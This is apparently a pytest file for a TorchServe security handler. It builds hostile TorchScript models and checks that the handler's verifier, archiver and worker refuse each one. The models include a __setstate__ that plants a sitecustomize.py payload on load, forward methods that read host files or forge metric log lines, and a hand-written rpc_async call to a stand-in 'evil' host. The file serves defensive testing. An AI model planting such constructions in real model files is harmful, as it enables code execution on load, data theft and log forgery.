"""TorchScript models whose own program does I/O: each is built here, then refused.

CWE-94 (code in the model runs at load: `torch.jit.load` runs `__setstate__`) and CWE-502. The
models are real `torch.jit.script` output of the classes below, or a real file with one code
member written by hand (what an attacker controls). Each one is refused three ways:

* by `secure-handler verify` (the installed CLI for the three the issue names, its `main`
  in-process for the rest; on a MAR from the real torch-model-archiver), with rule SH420
  naming the MAR member, the code member, the method and the operation;
* by `secure-handler archive`, which never builds the MAR;
* by the worker: `SecureImageClassifier.initialize` on TorchServe's real `Context` raises
  `UnsafeModelError` while `torch.jit.load` (spied) is never called,

and no file is created. Finally the inspection is switched off to show the threat is real: the
same files do write and read, and the model-directory snapshot still fails `initialize`.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import torch
from attacks.harness import MANIFEST
from support import LABELS, archive_mar, write_image_handler

from secure_handler import SecureImageClassifier, UnsafeModelError
from secure_handler.cli import main
from secure_handler.serving import loading
from secure_handler.serving.loading import save_torchscript
from secure_handler.serving.torchscript import inspect_torchscript
from secure_handler.testing import make_context

CLI = str(Path(sys.executable).with_name("secure-handler"))
PAYLOAD = b"import os\n"  # what a planted sitecustomize.py would start with


class SetstateMapsAndWrites(torch.nn.Module):
    """`__setstate__` creates `state[0]` holding PAYLOAD: `from_file(shared=True)` + `copy_`."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target
        self.blob = torch.zeros(0, dtype=torch.uint8)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x.mean(dim=(2, 3))

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.target, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.target = state[0]
        self.training = state[1]
        payload = torch.tensor([105, 109, 112, 111, 114, 116, 32, 111, 115, 10], dtype=torch.uint8)
        # Kept in an attribute: TorchScript drops writes to a tensor nothing uses afterwards.
        self.blob = torch.from_file(state[0], shared=True, size=10, dtype=torch.uint8)
        self.blob.copy_(payload)


def save_to(path: str) -> None:
    """A plain function the hostile `__setstate__` calls: TorchScript compiles it along."""
    torch.save(torch.zeros(2), path)


class SetstateCallsSave(torch.nn.Module):
    """`__setstate__` writes `state[0]` with `torch.save`, through a helper function."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x.mean(dim=(2, 3))

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.target, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.target = state[0]
        self.training = state[1]
        save_to(state[0])


class ForwardReadsHostFile(torch.nn.Module):
    """`forward` returns a host file's bytes as the model's output."""

    def __init__(self, path: str, size: int) -> None:
        super().__init__()
        self.path = path
        self.size = size

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        data = torch.from_file(self.path, shared=False, size=self.size, dtype=torch.uint8)
        return data.to(torch.float32).unsqueeze(0).expand(x.shape[0], self.size)


class ForwardPrints(torch.nn.Module):
    """`forward` prints to the worker's stdout, which TorchServe parses for metric lines."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        print("[METRICS]ForgedMetric.Count:1|#Level:Host|#hostname:x,timestamp:1")
        return x.mean(dim=(2, 3))


class Benign(torch.nn.Module):
    """The base for hand-written code: its printed forward is replaced below."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x.mean(dim=(2, 3))


def hand_written(body: str, extra: str = "") -> Callable[[Path, Path], Path]:
    """A builder: `Benign` saved by torch, then its code member rewritten with `body`."""

    def build(out: Path, target: Path) -> Path:
        save_torchscript(Benign(), out)
        with zipfile.ZipFile(out) as zf:
            original = {info.filename: zf.read(info) for info in zf.infolist()}
        member = next(n for n, d in original.items() if n.endswith(".py") and b"class Benign" in d)
        qualifier = member.split("/code/", 1)[1][: -len(".py")].replace("/", ".")
        code = (
            "class Benign(Module):\n  __parameters__ = []\n  __buffers__ = []\n"
            "  training : bool\n  _is_full_backward_hook : Optional[bool]\n" + extra +
            f"  def forward(self: {qualifier}.Benign,\n    x: Tensor) -> Tensor:\n"
            + body.format(target=target)
        )
        with zipfile.ZipFile(out, "w") as zf:
            for name, data in original.items():
                zf.writestr(name, code.encode() if name == member else data)
        return out

    return build


@dataclass(frozen=True)
class Case:
    build: Callable[[Path, Path], Path]  # (model path, file the attack would create) -> model
    method: str
    operation: str


def scripted(make: Callable[[str], torch.nn.Module]) -> Callable[[Path, Path], Path]:
    """A builder: `torch.jit.script` of `make(target)`, saved by torch."""

    def build(out: Path, target: Path) -> Path:
        save_torchscript(make(str(target)), out)
        return out

    return build


CASES = {
    "setstate_from_file_shared_copy": Case(
        scripted(SetstateMapsAndWrites), "SetstateMapsAndWrites.__setstate__", "aten::from_file"),
    "setstate_torch_save_via_helper": Case(
        scripted(SetstateCallsSave), "save_to", "aten::save"),
    "forward_reads_host_file": Case(
        scripted(lambda t: ForwardReadsHostFile("/etc/hostname", 4)),
        "ForwardReadsHostFile.forward", "aten::from_file"),
    "forward_prints_to_stdout": Case(
        scripted(lambda t: ForwardPrints()), "ForwardPrints.forward", "print()"),
    "save_spelled_through_ops": Case(
        hand_written('    ops.aten.save(x, "{target}")\n    return torch.mean(x, [2, 3])\n'),
        "Benign.forward", "aten::save"),
    "save_through_an_alias": Case(
        hand_written('    _0 = torch.save\n    _0(x, "{target}")\n    return torch.mean(x, [2, 3])\n'),
        "Benign.forward", "aten::save"),
    "from_file_as_a_method": Case(
        hand_written('    _0 = getattr(x, "from_file")\n    return torch.mean(x, [2, 3])\n'),
        "Benign.forward", ".from_file"),
    "custom_op_namespace": Case(
        hand_written("    return ops.myns.exfiltrate(x)\n"), "Benign.forward", "myns::exfiltrate"),
    "custom_class_with_native_code": Case(
        hand_written("    return torch.mean(x, [2, 3])\n",
                     "  pg : __torch__.torch.classes.c10d.ProcessGroup\n"),
        "Benign", "torch.classes.c10d.ProcessGroup"),
    "rpc_to_another_host": Case(
        hand_written('    _0 = rpc_async("evil:29500", __torch__.f, (x,))\n    return x\n'),
        "Benign.forward", "rpc_async()"),
    "load_library": Case(
        hand_written('    ops.load_library("{target}")\n    return x\n'),
        "Benign.forward", "ops.load_library"),
}


def run_cli(*argv: str) -> tuple[int, Any]:
    done = subprocess.run([CLI, *argv], capture_output=True, text=True, timeout=300)
    return done.returncode, json.loads(done.stdout)


def build_case(name: str, directory: Path, target: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    return CASES[name].build(directory / "model.pt", target)


#: The three the issue names run through the installed CLI; the rest through the same `main`
#: in-process (a CLI process costs a torch import, on two shared cores).
THROUGH_CLI = ("setstate_from_file_shared_copy", "setstate_torch_save_via_helper",
               "forward_reads_host_file")


@pytest.mark.parametrize("name", sorted(CASES))
def test_verify_refuses_naming_member_method_and_operation(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    target = tmp_path / "pwned"
    model = build_case(name, tmp_path / "src", target)
    handler = write_image_handler(tmp_path / "src")
    mar = archive_mar(tmp_path / "store", "hostile", model, handler)
    argv = ("verify", "--allow-missing-digests", "--json", str(mar))
    if name in THROUGH_CLI:
        code, report = run_cli(*argv)
    else:
        capsys.readouterr()
        code, report = main(list(argv)), json.loads(capsys.readouterr().out)
    refused = [f for f in report["findings"] if not f["allowed"]]
    assert code == 1
    assert {f["rule"] for f in refused} == {"SH420"}
    case = CASES[name]
    hit = next(f for f in refused if f"{case.operation}:" in f["message"])
    assert hit["location"].startswith("hostile.mar!model.pt!code/__torch__/")
    assert f"in {case.method}: {case.operation}" in hit["message"]
    assert hit["cwe"] == "CWE-94"
    assert not target.exists()


@pytest.mark.parametrize("name", THROUGH_CLI)
def test_archive_refuses_and_builds_nothing(tmp_path: Path, name: str) -> None:
    target = tmp_path / "pwned"
    model = build_case(name, tmp_path / "src", target)
    handler = write_image_handler(tmp_path / "src")
    labels = tmp_path / "src" / "index_to_name.json"
    labels.write_text(json.dumps(LABELS))
    code, report = run_cli(
        "archive", "--model-name", "hostile", "--version", "1.0", "--serialized-file",
        str(model), "--handler", str(handler), "--extra-files", str(labels),
        "--export-path", str(tmp_path / "store"), "--json")  # fmt: skip
    assert code == 1
    assert "SH420" in {f["rule"] for f in report["findings"]}
    assert not (tmp_path / "store" / "hostile.mar").exists()
    assert not target.exists()


class JitLoadSpy:
    """Stands in for `torch.jit.load` and records every call: the inspection must come first."""

    def __init__(self) -> None:
        self.calls: list[tuple[Any, ...]] = []

    def __call__(self, *args: Any, **kwargs: Any) -> Any:
        self.calls.append(args)
        raise AssertionError("torch.jit.load ran on a refused model")


def model_dir_with(name: str, directory: Path) -> tuple[Path, Path]:
    """An unpacked archive as TorchServe extracts it, the attack aimed at sitecustomize.py."""
    target = directory / "sitecustomize.py"
    build_case(name, directory, target)
    (directory / "index_to_name.json").write_text(json.dumps(LABELS))
    return directory, target


@pytest.mark.parametrize("name", sorted(CASES))
def test_worker_refuses_before_torch_jit_load(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    model_dir, target = model_dir_with(name, tmp_path / "model")
    before = loading.snapshot_tree(model_dir)
    spy = JitLoadSpy()
    monkeypatch.setattr(torch.jit, "load", spy)
    handler = SecureImageClassifier()
    with pytest.raises(UnsafeModelError) as err:
        handler.initialize(make_context(model_dir, MANIFEST, {"handler": {}}))
    assert spy.calls == []
    assert f"in {CASES[name].method}: {CASES[name].operation}" in str(err.value)
    assert not target.exists()
    loading.check_tree_unchanged(model_dir, before)


@pytest.mark.parametrize("name", ["setstate_from_file_shared_copy",
                                  "setstate_torch_save_via_helper"])
def test_uninspected_load_writes_and_the_snapshot_still_refuses(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """Defence in depth: with the inspection switched off, the real `torch.jit.load` runs the
    hostile `__setstate__` and plants sitecustomize.py; `initialize` fails naming it."""
    model_dir, target = model_dir_with(name, tmp_path / "model")
    monkeypatch.setattr(loading, "check_torchscript_program", lambda path: None)
    handler = SecureImageClassifier()
    with pytest.raises(UnsafeModelError, match=r"appeared: sitecustomize\.py"):
        handler.initialize(make_context(model_dir, MANIFEST, {"handler": {}}))
    assert target.is_file()  # the threat is real: this file would run in the next worker


def test_uninspected_forward_returns_a_host_file(tmp_path: Path) -> None:
    """The read is real too: without inspection the model's output is the file's bytes."""
    secret = tmp_path / "secret"
    secret.write_bytes(b"k3y!")
    model = save_torchscript(ForwardReadsHostFile(str(secret), 4), tmp_path / "m.pt")
    out = model(torch.zeros(1, 3, 2, 2))  # the scripted module, in this process
    assert bytes(out[0].to(torch.uint8).tolist()) == b"k3y!"
    with pytest.raises(UnsafeModelError, match="aten::from_file"):
        loading.load_torchscript(tmp_path / "m.pt", torch.device("cpu"))


def test_snapshot_names_a_same_size_rewrite_and_a_removal(tmp_path: Path) -> None:
    """Modified (same size, mtime put back) and removed files are named like appeared ones."""
    (tmp_path / "handler.py").write_text("x = 1\n")
    (tmp_path / "labels.json").write_text("{}")
    before = loading.snapshot_tree(tmp_path)
    stat = (tmp_path / "handler.py").stat()
    (tmp_path / "handler.py").write_text("x = 2\n")
    os.utime(tmp_path / "handler.py", ns=(stat.st_atime_ns, stat.st_mtime_ns))
    (tmp_path / "labels.json").unlink()
    with pytest.raises(UnsafeModelError, match=r"modified: handler\.py; removed: labels\.json"):
        loading.check_tree_unchanged(tmp_path, before)


def test_snapshot_leaves_out_bytecode_caches(tmp_path: Path) -> None:
    """Another worker of the same model writes __pycache__ while importing the handler."""
    before = loading.snapshot_tree(tmp_path)
    (tmp_path / "__pycache__").mkdir()
    (tmp_path / "__pycache__" / "handler.cpython-311.pyc").write_bytes(b"\x00")
    loading.check_tree_unchanged(tmp_path, before)
    (tmp_path / "sub").mkdir()
    with pytest.raises(UnsafeModelError, match=r"appeared: sub"):
        loading.check_tree_unchanged(tmp_path, before)


class SetstateWarnsForgedLines(torch.nn.Module):
    """`__setstate__` warns with a message holding lines TorchServe parses from stderr."""

    def __init__(self) -> None:
        super().__init__()
        self.tag = "x"

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.tag, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.tag = state[0]
        self.training = state[1]
        forged = "\n[PID]1\n[METRICS]Forged.Count:1|#Level:Host|#hostname:h,timestamp:1"
        warnings.warn("loaded" + forged, stacklevel=2)


def test_load_time_warnings_are_logged_escaped_not_printed(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    """CWE-117: aten::warn stays allowed (nn.TransformerEncoder calls it); inside
    torch.jit.load torch prints a warning straight to fd 2, where TorchServe parses `[PID]` and
    `[METRICS]` lines. The loader holds fd 2 during the load and logs each line as a repr."""
    path = tmp_path / "model.pt"
    save_torchscript(SetstateWarnsForgedLines(), path)
    assert inspect_torchscript(path) == []  # passes: the allowlist keeps aten::warn
    capfd.readouterr()
    with warnings.catch_warnings():  # real: torch.jit.load alone prints the forged lines
        warnings.filterwarnings("ignore", message=r"`torch\.jit\.load` is deprecated",
                                category=DeprecationWarning)
        torch.jit.load(str(path))  # type: ignore[no-untyped-call]
    assert "[PID]1" in capfd.readouterr().err.splitlines()
    with caplog.at_level("WARNING", logger=loading.logger.name):
        loading.load_torchscript(path, torch.device("cpu"))
    printed = capfd.readouterr()
    lines = (printed.out + printed.err).splitlines()
    assert not [line for line in lines if line.startswith(("[PID]", "[METRICS]"))]
    assert "output while loading: '[PID]1'" in caplog.text
    assert "output while loading: '[METRICS]Forged" in caplog.text


class ForwardWarnsForgedLines(torch.nn.Module):
    """`forward` warns with text holding lines TorchServe parses from the worker's output."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        warnings.warn("served\n[PID]1\n[METRICS]Forged.Count:1|#Level:Host|#hostname:h,"
                      "timestamp:1", stacklevel=2)
        return x.mean(dim=(2, 3)).repeat(1, 2)[:, :4]


def test_inference_time_warnings_are_logged_escaped_not_printed(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    """CWE-117: during `forward` torch surfaces `aten::warn` as a Python warning; the worker
    routes warnings through logging as one escaped line each, so no `[METRICS]` line is forged."""
    from support import image_bytes

    from secure_handler.testing import Request, run_batch

    model_dir = tmp_path / "model"
    model_dir.mkdir()
    save_torchscript(ForwardWarnsForgedLines(), model_dir / "model.pt")
    (model_dir / "index_to_name.json").write_text(json.dumps(LABELS))
    handler = SecureImageClassifier()
    with warnings.catch_warnings():
        warnings.filterwarnings("always", category=UserWarning)  # a worker prints them
        ctx = make_context(model_dir, MANIFEST, {"handler": {}})
        handler.initialize(ctx)
        capfd.readouterr()
        with caplog.at_level("WARNING", logger="py.warnings"):
            answers = run_batch(handler, ctx, [Request(image_bytes("red"), "image/jpeg")])
    assert answers[0][0] == 200
    printed = capfd.readouterr()
    lines = (printed.out + printed.err + caplog.text).splitlines()
    assert not [line for line in lines if line.startswith(("[PID]", "[METRICS]"))]
    assert "\\n[METRICS]Forged" in caplog.text  # logged, escaped, on one line
